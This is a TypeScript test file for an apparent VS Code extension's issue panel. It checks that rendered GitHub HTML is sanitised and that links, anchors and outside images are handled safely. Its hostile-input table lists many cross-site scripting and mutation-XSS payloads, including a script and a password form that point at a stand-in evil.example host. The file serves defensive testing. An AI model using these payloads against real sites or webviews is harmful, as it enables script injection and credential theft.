import assert from 'node:assert/strict';
import { appear } from './eventually';
import { PanelPage } from './panelPage';

const HOSTILE: Record<string, string> = {
  'a script': '<script>stolen = true</script>',
  'a script from elsewhere': '<script src="https://evil.example/x.js"></script>',
  'an event of an image': '<img src=x onerror="stolen = true">',
  'an event of a picture that loads': '<img src="https://pictures.example/a.png" onload="stolen = true">',
  'an event in odd spelling': '<img/src="x"/ONERROR=stolen=true//>',
  'events of other elements':
    '<details open ontoggle="stolen = true">a</details><marquee onstart="stolen = true">b</marquee><body onload="stolen = true"><video><source onerror="stolen = true"></video><input autofocus onfocus="stolen = true">',
  'a script address': '<a href="javascript:stolen=true">click</a>',
  'script addresses in odd spelling':
    '<a href="JaVaScRiPt&#58;stolen=true">click</a><a href=" &#14; javascript:stolen=true">click</a><a href="java&#9;script:stolen=true">click</a>',
  'a data address': '<a href="data:text/html,<script>stolen=true</script>">click</a>',
  'commands of the editor':
    '<a href="command:workbench.action.quit">click</a><a href="vscode://some.extension/x">click</a><a href="file:///etc/passwd">click</a>',
  'a drawing':
    '<svg onload="stolen = true"><script>stolen = true</script><a xlink:href="javascript:stolen=true"><text>click</text></a></svg>',
  'a style':
    '<style>* { display: none }</style><p style="position: fixed; inset: 0">over all</p><link rel="stylesheet" href="https://evil.example/x.css">',
  'a frame':
    '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>parent.stolen = true</script>"></iframe><object data="https://evil.example"></object><embed src="https://evil.example"><frameset><frame src="https://evil.example"></frameset>',
  'a form':
    '<form action="https://evil.example"><input name="password"><button formaction="https://evil.example">Sign in</button><textarea>a</textarea><select><option>b</select></form>',
  'another base and another page':
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0; url=https://evil.example"><a href="x">click</a>',
  'pictures from other places':
    '<img src="http://evil.example/a.png"><img src="file:///a.png"><img src="data:image/svg+xml,<svg onload=stolen=true>"><img srcset="https://evil.example/a.png 1x">',
  'our own buttons':
    '<button data-send="signIn">Sign in</button><a data-reference href="https://evil.example/a/b/issues/1">click</a><p class="toolbar" id="content">a</p>',
  'names of what scripts use':
    '<a id="acquireVsCodeApi"></a><img name="getElementById"><a id="status">b</a><input id="messages">',
  // What sanitisers that write HTML and parse it again have let through.
  'a comment within a style within formulas':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=stolen=true&gt;">',
  'forms within forms':
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="stolen = true">',
  'a paragraph that ends a noscript':
    '<noscript><p title="</noscript><img src=x onerror=stolen=true>"></noscript>',
  'a template': '<template><img src=x onerror="stolen = true"><script>stolen = true</script></template>',
  'a title and other plain texts':
    '<title><img src=x onerror=stolen=true></title><xmp><img src=x onerror=stolen=true></xmp><plaintext><img src=x onerror=stolen=true>',
  'a drawing in a paragraph in a drawing': '<svg></p><style><a id="</style><img src=x onerror=stolen=true>">',
  'elements in elements without end': `${'<div>'.repeat(600)}<img src=x onerror="stolen = true">`,
  'what is not closed': '<a href="https://example.com" title="<img src=x onerror=stolen=true>',
  'a null in a name': '<scr\u0000ipt>stolen = true</scr\u0000ipt><img src=x one\u0000rror="stolen = true">',
};

/** What may be left. `data-reference` is ours. */
const ATTRIBUTES =
  /^(?:align|alt|aria-label|checked|class|colspan|data-reference|datetime|decoding|dir|disabled|headers|height|href|id|lang|loading|open|referrerpolicy|reversed|rowspan|scope|src|start|tabindex|title|type|width)$/;
const ELEMENTS =
  /^(?:a|abbr|b|bdo|blockquote|br|caption|cite|code|dd|del|details|dfn|div|dl|dt|em|figcaption|figure|h[1-6]|hr|i|img|input|ins|kbd|li|mark|ol|p|picture|pre|q|rp|rt|ruby|s|samp|section|small|span|strike|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|time|tr|tt|ul|var|wbr)$/;

interface Remains {
  readonly name: string;
  readonly attributes: Readonly<Record<string, string>>;
}

describe('a text in the issue panel', () => {
  let panel: PanelPage;

  before(async () => {
    panel = await PanelPage.open();
  });
  after(() => panel.close());
  beforeEach(() => panel.load());

  /** All elements that came of the text. */
  async function remains(): Promise<Remains[]> {
    return panel.page.locator('.description *').evaluateAll((elements) =>
      elements.slice(2).map((element) => ({
        name: element.localName,
        attributes: Object.fromEntries(Array.from(element.attributes, ({ name, value }) => [name, value])),
      })),
    );
  }

  for (const [name, html] of Object.entries(HOSTILE)) {
    it(`lets no harm come of ${name}`, async () => {
      await panel.showText(`<p>Before.</p>${html}`);
      await appear(panel.page.getByText('Before.'));
      for (const { name: element, attributes } of await remains()) {
        assert.match(element, ELEMENTS);
        for (const [attribute, value] of Object.entries(attributes)) {
          assert.match(attribute, ATTRIBUTES);
          if (attribute === 'href') assert.match(value, /^(?:https:\/\/|#body-)/);
          if (attribute === 'src') assert.match(value, /^https:\/\//);
          if (attribute === 'id') assert.match(value, /^body-/);
          if (attribute === 'class') assert.doesNotMatch(value, /toolbar|content/);
        }
        if (element === 'input') assert.equal(attributes.type, 'checkbox');
      }
      // A picture that was to load has loaded by now, and its event has been.
      for (const link of await panel.page.locator('.description a').all()) await link.dispatchEvent('click');
      assert.equal(await panel.page.evaluate(() => 'stolen' in globalThis), false);
      assert.deepEqual(
        panel.requests.filter(
          (url) => !url.startsWith('https://pictures.example/') && !url.endsWith('/issues/x'),
        ),
        [],
      );
      assert.deepEqual(
        (await panel.messages()).map(({ kind }) => kind),
        ['ready'],
      );
      for (const url of await panel.opened()) assert.match(url, /^https:/);
    });
  }

  it('is kept from running scripts by the policy also where the sanitiser is out of the way', async () => {
    const refused = await panel.page.evaluate(() => {
      const holder = document.createElement('div');
      document.body.append(holder);
      const attempt = (act: () => void) => {
        try {
          act();
          return 'done';
        } catch (error) {
          return (error as Error).name;
        }
      };
      const link = document.createElement('a');
      link.href = 'javascript:stolen=true';
      holder.append(link);
      link.click();
      return [
        attempt(() => (holder.innerHTML = '<img src=x onerror="stolen = true">')),
        attempt(() => holder.setAttribute('onclick', 'stolen = true')),
        attempt(() => {
          const script = document.createElement('script');
          script.append('stolen = true');
          holder.append(script);
        }),
      ];
    });
    assert.equal(refused[0], 'TypeError');
    assert.equal(await panel.page.evaluate(() => 'stolen' in globalThis), false);
    assert.notEqual(panel.complaints.length, 0);
  });

  it('shows what GitHub’s Markdown becomes', async () => {
    await panel.showText(`
      <h1 dir="auto">Plan</h1><div class="markdown-heading"><h2>Part</h2><a id="user-content-part" class="anchor" aria-label="Permalink: Part" href="#part"><svg></svg></a></div>
      <div class="highlight highlight-source-js"><pre><span class="pl-k">let</span> a</pre></div>
      <ul class="contains-task-list"><li class="task-list-item"><input type="checkbox" id="" disabled="" class="task-list-item-checkbox" checked=""> seen</li>
      <li class="task-list-item"><input type="checkbox" class="task-list-item-checkbox"> open</li></ul>
      <table role="table"><thead><tr><th>pier</th></tr></thead><tbody><tr><td align="right">north</td></tr></tbody></table>
      <details><summary>Log</summary><p>night</p></details>
      <g-emoji class="g-emoji" alias="bulb">💡</g-emoji> <kbd>Ctrl</kbd> <del>gone</del> H<sub>2</sub>O
      <div class="markdown-alert markdown-alert-note"><p class="markdown-alert-title"><svg class="octicon"><path d="M0"></path></svg>Note</p><p>careful</p></div>
      <math-renderer class="js-inline-math">$x$</math-renderer>
      <a href="https://camo.githubusercontent.com/a"><img src="https://camo.githubusercontent.com/a" alt="the lamp" width="20"></a>`);
    assert.equal(
      await panel.page.locator('.description .text').ariaSnapshot(),
      `- heading "Plan" [level=3]
- heading "Part" [level=4]
- text: let a
- list:
  - listitem:
    - checkbox "Completed task" [checked] [disabled]
    - text: seen
  - listitem:
    - checkbox "Incomplete task" [disabled]
    - text: open
- table:
  - rowgroup:
    - row "pier":
      - columnheader "pier"
  - rowgroup:
    - row "north":
      - cell "north"
- group: Log
- text: 💡 Ctrl
- deletion: gone
- text: H
- subscript: "2"
- text: O
- paragraph: Note
- paragraph: careful
- text: $x$
- link "the lamp":
  - /url: https://camo.githubusercontent.com/a
  - img "the lamp"`,
    );
    const classes = (await remains()).flatMap(({ attributes }) => attributes.class?.split(' ') ?? []);
    assert.deepEqual(classes, [
      'h1',
      'h2',
      'highlight',
      'pl-k',
      'contains-task-list',
      'task-list-item',
      'task-list-item',
      'scroller',
      'markdown-alert',
      'markdown-alert-note',
      'markdown-alert-title',
    ]);
  });

  it('leads where its links say, issues within the panel', async () => {
    await panel.showText(`
      <a href="https://github.com/harbour-lights/charts/issues/7#issuecomment-1">far</a>
      <a href="/harbour-lights/beacon/pull/15">root</a> <a href="15">near</a>
      <a href="https://example.com/a b">web</a> <a href="http://example.com/">plain</a> <a href="mailto:a@example.com">mail</a>
      <a href="/harbour-lights">people</a> <a href="https://github.example/a/b/issues/1">other host</a> <a>none</a> <a href="">empty</a>`);
    const links = (await remains()).map(({ attributes }) => [
      attributes.href,
      'data-reference' in attributes,
    ]);
    assert.deepEqual(links, [
      ['https://github.com/harbour-lights/charts/issues/7#issuecomment-1', true],
      ['https://github.com/harbour-lights/beacon/pull/15', true],
      ['https://github.com/harbour-lights/beacon/issues/15', true],
      ['https://example.com/a%20b', false],
      [undefined, false],
      [undefined, false],
      ['https://github.com/harbour-lights', false],
      ['https://github.example/a/b/issues/1', false],
      [undefined, false],
      [undefined, false],
    ]);
    await panel.page.getByText('web').click();
    assert.deepEqual(await panel.opened(), ['https://example.com/a%20b']);
    await panel.page.getByText('root').click();
    assert.deepEqual(await panel.waitForMessage('navigate'), {
      kind: 'navigate',
      url: 'https://github.com/harbour-lights/beacon/pull/15',
    });
  });

  it('leads to its own anchors and not to those of others', async () => {
    const html = '<p><a href="#fn-1">1</a> <a href="#top">2</a></p><p id="user-content-fn-1">the note</p>';
    await panel.show({
      thread: { html, empty: '', comments: [comment(html, 1), comment(html, 2)], more: 0 },
    });
    const hrefs = await panel.page
      .locator('.text a')
      .evaluateAll((links) => links.map((link) => link.getAttribute('href')));
    const anchors = ['#body-user-content-fn-1', '#comment0-user-content-fn-1', '#comment1-user-content-fn-1'];
    assert.deepEqual(
      hrefs,
      anchors.flatMap((anchor) => [anchor, null]),
    );
    await panel.page.locator('.comments a[href^="#comment1"]').click();
    assert.equal(await panel.page.evaluate(() => document.activeElement?.id), 'comment1-user-content-fn-1');
  });

  it('shows pictures of others only after a click, by keyboard too', async () => {
    const text = `
      <p><img src="https://charts.example:8443/a.png" alt="a chart"></p>
      <p><a href="https://example.com/build"><img src="https://badges.example/b.svg"></a></p>
      <p><img src="https://media.own.example/own.png" alt="own"></p>
      <p><img src="https://badges.example/dark.png#gh-dark-mode-only" alt="dark"></p>`;
    await panel.showText(text);
    await appear(panel.page.getByText('[Image: a chart]'));
    assert.equal(
      await panel.page.locator('.text').ariaSnapshot(),
      `- paragraph:
  - text: "[Image: a chart]"
  - button "Show picture from charts.example:8443"
- paragraph:
  - 'link "[Image: not shown]"':
    - /url: https://example.com/build
  - button "Show picture from badges.example"
- paragraph:
  - img "own"
- paragraph:
  - text: "[Image: dark]"
  - button "Show picture from badges.example"`,
    );
    assert.deepEqual(panel.requests, ['https://media.own.example/own.png']);
    await panel.page.getByRole('button', { name: 'Show picture from charts' }).focus();
    await panel.page.keyboard.press('Enter');
    const host = 'charts.example:8443';
    assert.deepEqual(await panel.waitForMessage('showPictures'), { kind: 'showPictures', host });

    // The extension answers with the page anew.
    await panel.load(await panel.state(), [`https://${host}`]);
    await panel.showText(text);
    const picture = panel.page.getByRole('img', { name: 'a chart' });
    await picture.evaluate((image: HTMLImageElement) => image.decode());
    assert.ok(await picture.evaluate((image) => image === document.activeElement), 'it has the focus');
    assert.deepEqual(panel.requests.toSorted(), [
      'https://charts.example:8443/a.png',
      'https://media.own.example/own.png',
    ]);
    assert.equal((await panel.state())?.picture, undefined, 'the focus is taken once');
    assert.deepEqual(panel.complaints, []);
  });

  it('lets in no picture of others even where the text is out of hand', async () => {
    await panel.showText('x');
    await panel.page.evaluate(async () => {
      const image = new Image();
      image.src = 'https://charts.example/a.png';
      await image.decode().catch(() => undefined);
    });
    assert.deepEqual(panel.requests, []);
    assert.match(panel.complaints.join(), /charts\.example.*Content Security Policy/s);
  });

  it('shows the face of nobody whose picture is kept elsewhere', async () => {
    const author = { text: '@ada-brandt', avatar: 'https://faces.example/ada.png' };
    await panel.show({ opened: { author, written: { text: 'today' } } });
    await appear(panel.page.getByText('@ada-brandt'));
    assert.equal(await panel.page.locator('img').count(), 0);
    assert.deepEqual(panel.complaints, []);
  });

  it('tells nobody where its pictures are shown, links its videos, and says what picture is missing', async () => {
    await panel.showText(`
      <picture><source media="(prefers-color-scheme: dark)" srcset="https://pictures.example/dark.png"><img src="https://pictures.example/light.png" alt="light"></picture>
      <video src="https://pictures.example/clip.mov?jwt=1" controls></video>
      <img src="https://pictures.example/missing.png" alt="a chart">`);
    await appear(panel.page.getByText('[Image: a chart]'));
    const [, image, video] = await remains();
    assert.deepEqual(image, {
      name: 'img',
      attributes: {
        src: 'https://pictures.example/light.png',
        alt: 'light',
        loading: 'lazy',
        decoding: 'async',
        referrerpolicy: 'no-referrer',
      },
    });
    assert.deepEqual(video, { name: 'a', attributes: { href: 'https://pictures.example/clip.mov?jwt=1' } });
    await appear(panel.page.getByText('Video: clip.mov'));
    assert.deepEqual(panel.requests.toSorted(), [
      'https://pictures.example/light.png',
      'https://pictures.example/missing.png',
    ]);
  });
});

function comment(html: string, number: number) {
  return {
    author: { text: '@bo-lind' },
    written: { text: 'today', time: '2026-11-04T09:00:00Z' },
    html,
    url: `https://github.com/harbour-lights/beacon/issues/12#issuecomment-${number}`,
  };
}
